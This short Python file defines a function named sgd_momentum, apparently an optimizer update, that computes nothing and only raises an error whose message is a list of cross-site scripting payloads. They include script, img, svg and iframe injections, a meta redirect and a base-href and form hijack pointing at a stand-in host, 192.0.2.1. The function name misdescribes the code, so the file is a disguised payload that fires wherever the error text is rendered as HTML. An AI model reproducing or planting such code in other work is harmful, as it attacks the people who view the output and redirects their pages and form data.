def sgd_momentum(w, dw, config=None):
    raise ValueError(
        "<script>document.title='owned';alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
        "<iframe src='javascript:alert(1)'></iframe><meta http-equiv=refresh content='0;url=http://192.0.2.1/'>"
        "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a><link rel=stylesheet href='//192.0.2.1/x.css'>"
        "<base href='http://192.0.2.1/'><form action='http://192.0.2.1/'><input autofocus onfocus=alert(1)></form>"
    )
